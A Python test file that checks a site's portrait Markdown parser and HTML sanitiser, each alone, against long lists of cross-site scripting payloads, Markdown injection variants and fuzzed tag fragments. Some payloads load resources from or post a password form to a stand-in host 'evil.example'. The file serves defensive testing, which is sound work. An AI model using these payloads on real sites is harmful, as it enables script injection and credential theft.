"""The parser and the sanitiser of portraits, each alone: either would be enough without the other."""

from collections.abc import Callable

import pytest
from harmless import faults_of
from hostile_texts import HOSTILE
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from trust import Count, Figure

from generator.plain_markdown import faults
from generator.site.parts.portrait import parsed, portrait_html, sanitised

HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=1em>x</text></a></svg>",
    "<math><mtext></p><script>alert(1)</script></math>",
    "<math><mi xlink:href='data:text/html,<script>alert(1)</script>'>x</mi></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><a title='</title><script>alert(1)</script>'>",
    "<xmp><p title='</xmp><script>alert(1)</script>'>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html><body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<form action='https://evil.example'><input name=password><button>Send</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href='\u0001javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/assessors/'>x</a>",
    "<a href='http://a.example'>x</a>",
    "<a href='https://a.example' onclick=alert(1) style='position:fixed' target=_blank id=x class=y>x</a>",
    "<a href='https://a.example' ping='https://evil.example' download>x</a>",
    "<h1>The page's own</h1><h2>Another</h2>",
    "</div></main><h2>Out</h2>",
    "<div class=md-header>x</div><span hidden>x</span>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<p id=content name=getElementById>x</p>",
    "<portal src='https://evil.example'></portal>",
    "<x onclick=alert(1)>x</x>",
    "<p/onclick=alert(1)>x",
    "<p\u0000onclick=alert(1)>x</p>",
    "<a\u00a0href='javascript:alert(1)'>x</a>",
    "<ol start='1' type=a onclick=alert(1)><li value=3>x</ol>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<code class='md-banner'>x</code>",
    "\ufeff<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>",
    "<" * 3_000,
    "<p>" * 3_000,
    "<a href='https://a.example'>" * 1_000,
    "<svg><math>" * 500,
]
"""Raw HTML of people who want more than a portrait: scripts, frames, forms, other parsers' mistakes, and much of it."""

MARKDOWN = [
    *HOSTILE,
    *HTML,
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JAVASCRIPT&colon;alert(1))",
    "[x](java%73cript:alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x](https://a.example "t\\"onmouseover=alert(1) x=\\"")',
    "[x](https://a.example/\"onmouseover='alert(1))",
    "<javascript:alert(1)>",
    "<https://a.example/\"onmouseover='alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](https://a.example/x.png){onerror=alert(1)}",
    "[![x](x onerror=alert(1))](https://a.example)",
    '```" onmouseover="alert(1)\nx\n```',
    "``` <script>\nx\n```",
    "# <script>alert(1)</script>\n===",
    "> <script>\n> alert(1)\n> </script>",
    "- <img src=x onerror=alert(1)>",
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "\\<script>alert(1)\\</script>",
    "[a]: <b>\n[a]",
    "[" * 3_000,
    "> " * 400 + "x",
    "*_" * 2_000,
    "`" * 2_999 + "x",
]
"""Markdown whose words a careless parser would let through."""


@pytest.mark.parametrize("lock", [parsed, sanitised], ids=["the parser alone", "the sanitiser alone"])
def test_each_of_the_two_alone_leaves_nothing_that_harms(lock: Callable[[str], str], count: Count) -> None:
    hostile = MARKDOWN if lock is parsed else HTML
    for text in hostile:
        assert faults_of(lock(text)) == [], text
    count(Figure.TRIED, len(hostile))
    count(Figure.INERT, len(hostile))


def test_what_both_leave_harms_nobody_either() -> None:
    for text in MARKDOWN:
        assert faults_of(portrait_html(text)) == [], text


def test_the_look_at_it_finds_what_would_harm() -> None:
    """Without either of the two most of these would do harm, so that the tests above can fail."""
    careless = MarkdownIt("commonmark", {"html": True})
    harmful = [text for text in HTML if faults_of(careless.render(text))]
    assert len(harmful) > 0.8 * len(HTML)
    assert all(faults_of(sanitised(careless.render(text))) == [] for text in HTML)


@pytest.mark.parametrize(
    ("html", "left"),
    [
        ("<p>Plain <em>words</em><br>and <strong>more</strong>.</p>", None),
        ('<h3>One</h3>\n<ol start="3">\n<li>x</li>\n</ol>\n<pre><code>y\n</code></pre>', None),
        (
            '<a href="https://a.example/?a=1&amp;b=2" title="t">x</a>',
            '<a href="https://a.example/?a=1&amp;b=2" title="t" rel="external nofollow noopener">x</a>',
        ),
        ("<h1>x</h1>", "x"),
        ("<script>x</script>y", "y"),
    ],
)
def test_the_sanitiser_leaves_what_a_portrait_may_have(html: str, left: str | None) -> None:
    assert sanitised(html) == (html if left is None else left)


MARKUP = ["<", ">", "</", "/>", "'", '"', "=", "&lt;", "&#0;", "<!--", "-->", "<![CDATA[", "]]>", " ", "\n", "\x00"]
NAMES = ["script", "style", "svg", "math", "p", "a", "title", "textarea", "noscript", "template", "img", "iframe", "x"]
VALUES = [" href=", " onclick=", " src=", "javascript:", "https://a.example", "`", "*", "#", "[", "](", ")"]
SOUP = st.lists(st.sampled_from([*MARKUP, *NAMES, *VALUES]), max_size=40).map("".join)


@given(SOUP)
@settings(max_examples=300)
def test_no_pieces_of_html_in_any_order_pass_either_of_the_two(soup: str) -> None:
    assert faults_of(parsed(soup)) == []
    assert faults_of(sanitised(soup)) == []
    faults(soup)
